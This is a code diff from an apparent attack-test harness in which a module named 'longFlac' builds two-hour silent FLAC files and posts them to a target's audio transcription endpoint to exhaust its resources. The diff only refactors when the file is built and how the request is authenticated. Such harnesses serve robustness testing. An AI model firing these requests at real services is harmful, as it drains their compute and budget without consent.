@@ -6,17 +6,19 @@ const SAMPLE_RATE_HZ = 8000;
 const SECONDS = 7190;
 const PIECE_SECONDS = 10;
 
-let made: Promise<Buffer> | undefined;
+let file: Uint8Array = new Uint8Array();
 
 export const longFlac: Attack = {
   item: "A.4",
   name: "six FLAC files of two hours of silence",
+  async prepare() {
+    file = await silence();
+  },
   async strike(victim) {
-    const file = await (made ??= silence());
     const send = async (): Promise<void> => {
       const answer = await fetch(new URL("/v1/audio/transcriptions", victim.url), {
         method: "POST",
-        headers: { authorization: `Bearer ${await victim.session()}` },
+        headers: { authorization: `Bearer ${victim.key}` },
         body: transcriptionForm(file),
       });
       await answer.arrayBuffer();
@@ -25,7 +27,7 @@ export const longFlac: Attack = {
   },
 };
 
-async function silence(): Promise<Buffer> {
+async function silence(): Promise<Uint8Array> {
   await using encoder = new AudioEncoder();
   const output = await encoder.open("flac", SAMPLE_RATE_HZ);
   const pieces: Uint8Array[] = [];
